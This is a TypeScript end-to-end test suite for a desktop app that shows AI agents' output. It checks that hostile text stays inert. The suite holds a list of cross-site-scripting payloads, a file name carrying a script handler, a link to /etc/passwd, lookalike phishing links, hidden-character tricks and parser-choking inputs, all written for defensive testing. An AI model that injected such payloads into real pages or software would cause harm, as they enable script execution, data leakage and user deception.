import path from "node:path";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { until } from "../../electron/testing/until.ts";
import type { Run } from "../../shared/contract/runs.ts";
import { startCanary, type Canary } from "../kit/canary.ts";
import { openOffice, type DeskPage, type Office } from "../kit/desk-page.ts";
import { runEnded } from "../kit/host.ts";
import { send } from "../kit/work-place.ts";

const fakeAgent = path.resolve(import.meta.dirname, "../../electron/testing/fake-agent.ts");
const sessionUpdate = (update: object): object => ({ update });

/** Ways in which text became code, or fetched something, in programs that draw what a model says. */
function corpus(canary: string): string[] {
  return [
    `<img src="/pwned-image" onerror="window.__pwned=1">`,
    `<script>window.__pwned=1</script>`,
    `<svg onload="window.__pwned=1"><image href="${canary}/svg"></image></svg>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    `<object data="javascript:window.__pwned=1"></object>`,
    `<a href="javascript:window.__pwned=1">press</a>`,
    `<details open ontoggle="window.__pwned=1">x</details>`,
    `<style>@import "${canary}/import"; * { background: url(${canary}/css) }</style>`,
    `<link rel="preconnect" href="${canary}"><link rel="icon" href="${canary}/icon">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/meta"><base href="${canary}/">`,
    `<img srcset="${canary}/set 1x"><video poster="${canary}/poster" src="${canary}/video" autoplay></video>`,
    `<form action="${canary}/form"><input name="q" autofocus onfocus="window.__pwned=1"></form>`,
    `[press](javascript:window.__pwned=1) [data](data:text/html,<script>opener.__pwned=1</script>) [file](file:///etc/passwd)`,
    `![sees](${canary}/image?d=secret) ![by name][ref] <${canary}/auto>`,
    `</code></pre><img src=x onerror=window.__pwned=1>`,
    `$$\\href{javascript:window.__pwned=1}{x}$$ {{constructor.constructor('window.__pwned=1')()}}`,
  ];
}

describe("text from an agent", () => {
  let office: Office;
  let desk: DeskPage;
  let canary: Canary;

  beforeAll(async () => {
    canary = await startCanary("a page");
    const agent = {
      command: process.execPath,
      args: [fakeAgent],
      label: `Fake <img src="/pwned-label" onerror="window.__pwned=1">`,
    };
    office = await openOffice({ agents: { fake: agent } });
  });
  afterAll(async () => {
    await office?.close();
    await canary?.close();
  });
  beforeEach(async () => {
    canary.calls.length = 0;
    desk = await office.desk();
  });
  afterEach(async () => {
    await desk?.page.context().close();
    // Nothing so much as tried: the page's policy is the second wall, not the first.
    expect(desk.complaints).toEqual([]);
  });

  const ask = (steps: object[]): Promise<Run> => send(office.host, desk.chat, JSON.stringify(steps), "fake");
  async function showAll(): Promise<void> {
    // Each opens where it stands, and may show further ones; rows that leave the view leave the page.
    const closed = desk.at.log
      .locator('button[aria-expanded="false"]')
      .or(desk.at.log.getByRole("button", { name: /^Show .* more/ }));
    await until(async () => {
      if ((await closed.count()) === 0) return true;
      await closed.first().click({ timeout: 1_000 });
      return false;
    }, "every row of the chat to be open");
  }
  async function expectInert(page: Page): Promise<void> {
    expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
    const drawn = await page.evaluate(() => {
      const all = [...document.body.querySelectorAll("*")];
      const made = all.filter(
        (element) =>
          /^(script|iframe|object|embed|video|audio|base|meta|link|details)$/i.test(element.tagName) ||
          element.hasAttribute("action") ||
          (element.tagName === "image" && element.namespaceURI?.includes("svg")) ||
          (element.tagName === "IMG" && !element.getAttribute("src")?.startsWith("/assets/")) ||
          element.getAttributeNames().some((name) => name.startsWith("on")) ||
          /^(javascript|data|file):/i.test(element.getAttribute("href") ?? ""),
      );
      return made
        .filter((element) => !element.closest("script[src], link[rel=modulepreload]"))
        .map((element) => (element.cloneNode(false) as Element).outerHTML);
    });
    expect(drawn).toEqual([]);
    expect(desk.foreign).toEqual([]);
    expect(canary.calls).toEqual([]);
  }

  it("S38 S41 stays text in every place that shows it, and fetches nothing", async () => {
    const { page, at } = desk;
    const before = canary.connections();
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    const lines = corpus(canary.url);
    const all = lines.join("\n\n");
    const short = lines[0] ?? "";
    const file = `${desk.session.workingCopy.path}/a<img src=x onerror=window.__pwned=1>.md`;
    await office.host.api("PATCH", `/sessions/${desk.session.id}`, { title: short });
    await office.host.api("PATCH", `/chats/${desk.chat.id}`, { title: short });
    const tool = { toolCallId: "t1", kind: "execute", title: short, rawInput: { command: all }, locations: [{ path: file }] };
    const run = await ask([
      { say: `${all}\n\n[ref]: ${canary.url}/reference\n\n~~~html\n${all}\n~~~\n\n| ${short} |\n|---|\n| ${short} |\n` },
      sessionUpdate({ sessionUpdate: "agent_thought_chunk", content: { type: "text", text: all } }),
      sessionUpdate({
        sessionUpdate: "plan",
        entries: lines.map((content) => ({ content, priority: "high", status: "pending" })),
      }),
      sessionUpdate({ sessionUpdate: "tool_call", ...tool, status: "in_progress" }),
      sessionUpdate({
        sessionUpdate: "tool_call_update",
        toolCallId: "t1",
        status: "completed",
        content: [
          { type: "content", content: { type: "text", text: all } },
          { type: "diff", path: file, oldText: "before\n", newText: `${all}\n` },
        ],
        rawOutput: { output: all },
      }),
      sessionUpdate({
        sessionUpdate: "tool_call",
        toolCallId: "t2",
        kind: "fetch",
        title: all,
        status: "failed",
        rawOutput: { error: all },
      }),
      sessionUpdate({ sessionUpdate: "available_commands_update", availableCommands: [{ name: "cmd", description: short }] }),
      {
        call: "fs/write_text_file",
        params: { path: file, content: `${all}\n` },
      },
      {
        call: "session/request_permission",
        params: {
          toolCall: { ...tool, content: [{ type: "diff", path: file, oldText: null, newText: all }] },
          options: [
            { optionId: "a", kind: "allow_once", name: short },
            { optionId: "r", kind: "reject_once", name: short },
          ],
        },
      },
      {
        call: "elicitation/create",
        params: {
          mode: "form",
          message: all,
          requestedSchema: {
            type: "object",
            properties: { a: { type: "string", title: short, description: short, enum: lines.slice(0, 4) } },
            required: ["a"],
          },
        },
      },
      { fail: { code: -32603, message: all } },
    ]);

    // Each card is looked at before it is answered; the last is the question.
    const cards = at.log.locator("[data-approval]");
    for (;;) {
      await cards.first().waitFor();
      await expectInert(page);
      const yes = cards.first().getByRole("button", { name: /^Allow once/ });
      if ((await yes.count()) === 0) break;
      const id = await cards.first().getAttribute("data-approval");
      await until(async () => (await yes.getAttribute("aria-disabled")) === "false", "the card to take an answer");
      await yes.click();
      await at.log.locator(`[data-approval="${id}"]`).waitFor({ state: "detached" });
    }
    await page.keyboard.press("Control+j");
    await page.getByRole("complementary", { name: "Inbox" }).locator("[data-approval]").waitFor();
    await expectInert(page);
    await page.keyboard.press("Control+j");
    await cards.getByRole("radio").first().check();
    const answer = cards.getByRole("button", { name: "Answer" });
    await until(async () => (await answer.getAttribute("aria-disabled")) === "false", "the card to take an answer");
    await answer.click();
    expect((await runEnded(office.host, run.id)).status).toBe("failed");
    await at.log.getByText("The run failed").waitFor();
    await showAll();
    await expectInert(page);

    // It is all there to be read, as it was written.
    const log = await at.log.innerText();
    for (const line of lines.slice(0, 12)) expect(log).toContain(line);

    await page.keyboard.press("Control+Shift+G");
    const row = page.getByRole("option").filter({ hasText: "onerror=window.__pwned=1>.md" });
    await row.click();
    await page.getByText("window.__pwned=1</script>").last().waitFor();
    await expectInert(page);

    for (const [key, what] of [
      ["/", "Commands"],
      ["@a<", "Files and folders"],
    ] as const) {
      await at.prompt.fill("");
      await at.prompt.pressSequentially(key);
      await page.getByRole("listbox", { name: what }).getByText("onerror=").first().waitFor();
      await expectInert(page);
    }
    await at.prompt.fill("");
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Search commands, sessions and projects" }).fill("onerror");
    await page.getByRole("dialog").getByText("onerror=").first().waitFor();
    await expectInert(page);
    expect(asked.filter((url) => url.includes("pwned"))).toEqual([]);
    expect(canary.connections()).toBe(before);
  });

  it("S41 shows an image's whole address, and calls it only when told to, without saying from where", async () => {
    const { page, at } = desk;
    const address = `${canary.url}/image.png?d=secret`;
    await runEnded(office.host, (await ask([{ say: `Look: ![a picture](${address})` }])).id);
    await at.log.getByText(address, { exact: true }).waitFor();
    await at.log.getByText("a picture", { exact: true }).waitFor();
    expect(canary.calls).toEqual([]);
    const opening = page.context().waitForEvent("page");
    await at.log.getByRole("link", { name: "Open in the browser" }).click();
    await (await opening).waitForLoadState();
    const call = canary.calls.find(({ url }) => url === "/image.png?d=secret");
    expect(call).toBeDefined();
    expect(call?.headers.referer).toBeUndefined();
  });

  it("S42 tells where a link leads when its text says otherwise, and asks before it goes there", async () => {
    const { page, at } = desk;
    const opened: string[] = [];
    page.context().on("page", (other) => opened.push(other.url()));
    const links = [
      { text: "https://github.com", address: "https://evil.test/a", warning: "names another place" },
      { text: "user", address: "https://github.com@evil.test/b", warning: "user name before the host" },
      {
        text: "letters",
        address: "https://gith\u0443b.test/c",
        shown: "https://xn--githb-d2f.test/c",
        warning: "letters outside a–z",
      },
      { text: "long", address: `https://evil.test/d?${"q".repeat(2_000)}`, warning: "very long" },
    ];
    const plain = "https://plain.test/there";
    const say = [...links.map(({ text, address }) => `[${text}](${address})`), `[the plain one](${plain})`].join("\n\n");
    await runEnded(office.host, (await ask([{ say }])).id);
    const dialog = page.getByRole("dialog", { name: "Open this address?" });
    for (const { text, address, shown, warning } of links) {
      await at.log.getByRole("link", { name: text }).last().click();
      const code = await dialog.locator("code").textContent();
      if (shown === undefined) expect(code).toBe(address);
      else expect(code).toMatch(/^https:\/\/xn--/);
      expect(await dialog.innerText()).toContain(warning);
      await dialog.getByRole("button", { name: "Cancel" }).click();
      await dialog.waitFor({ state: "hidden" });
    }
    await at.log.getByRole("link", { name: "the plain one" }).hover();
    await page.getByText(plain, { exact: true }).waitFor();
    expect(opened).toEqual([]);
    expect(desk.foreign).toEqual([]);
  });

  it("S47 draws what would not be seen, in names, commands, prose and the diff", async () => {
    const { page, at } = desk;
    const hidden = "if (admin\u202e\u2066) {\u200b\u2069 // \u{e0041}";
    const file = `${desk.session.workingCopy.path}/cart.ts`;
    const run = await ask([
      { say: `Prose ${hidden}\n\n\`\`\`ts\nfence ${hidden}\n\`\`\`\n` },
      sessionUpdate({
        sessionUpdate: "tool_call",
        toolCallId: "t",
        kind: "other",
        title: `title ${hidden}`,
        status: "completed",
      }),
      {
        call: "session/request_permission",
        params: {
          toolCall: { toolCallId: "x", kind: "execute", title: "x", rawInput: { command: `run ${hidden}` } },
          options: [
            { optionId: "a", kind: "allow_once", name: "Yes" },
            { optionId: "r", kind: "reject_once", name: "No" },
          ],
        },
      },
      { call: "fs/write_text_file", params: { path: file, content: `export const total = 1;\n${hidden}\n` } },
    ]);
    const seen = "⟨U+202E⟩⟨U+2066⟩) {⟨U+200B⟩⟨U+2069⟩ // ⟨U+E0041⟩";
    const card = at.log.getByRole("group", { name: /Run/ }).and(page.locator("[data-approval]"));
    await card.waitFor();
    const text = await card.innerText();
    expect(text).toContain(`run if (admin${seen}`);
    expect(text).toContain("characters that would not be seen");
    await at.answer(/Run/, /^Allow once/);
    await at.answer(/cart\.ts/, /^Allow once/);
    await runEnded(office.host, run.id);
    const log = await at.log.innerText();
    for (const place of ["Prose", "fence", "title"]) expect(log).toContain(`${place} if (admin${seen}`);
    expect(log).not.toMatch(/[\u202e\u2066\u2069\u200b\u{e0041}]/u);

    await page.keyboard.press("Control+Shift+G");
    await page.getByRole("option").filter({ hasText: "cart.ts" }).click();
    await page.getByText("⟨U+202E⟩⟨U+2066⟩").last().waitFor();
  });

  it("S48 goes on answering under texts made to choke it", async () => {
    const { page, at } = desk;
    const run = await ask([
      { say: "```js\n" },
      { flood: 50, chars: 100_000 },
      { say: "\n```\n\nafter the line\n\n" },
      { say: `${"- ".repeat(20_000)}deep\n\n${"> ".repeat(20_000)}quoted\n\n` },
      { say: `${"[".repeat(20_000)}\n\n${"*a".repeat(10_000)}\n\n${"![](".repeat(10_000)}\n\n${"<a ".repeat(10_000)}\n\n` },
      { say: `| ${"a | ".repeat(2_000)}\n| ${"- | ".repeat(2_000)}\n| ${"b | ".repeat(2_000)}\n\nthe very end\n` },
    ]);
    expect((await runEnded(office.host, run.id)).status).toBe("completed");
    await at.sees("the very end");
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Search commands, sessions and projects" }).waitFor();
    await page.keyboard.press("Escape");
    // All of it can be had: what isn't drawn is counted, and shown on request.
    await at.log.hover();
    await page.mouse.wheel(0, -10_000_000);
    const more = at.log.getByRole("button", { name: /^Show .*more characters/ }).first();
    await until(async () => {
      await page.mouse.wheel(0, -10_000_000);
      return (await more.count()) > 0;
    }, "the cut line");
    await more.click();
    await at.prompt.fill("still here");
    expect(await at.prompt.inputValue()).toBe("still here");
  });
});
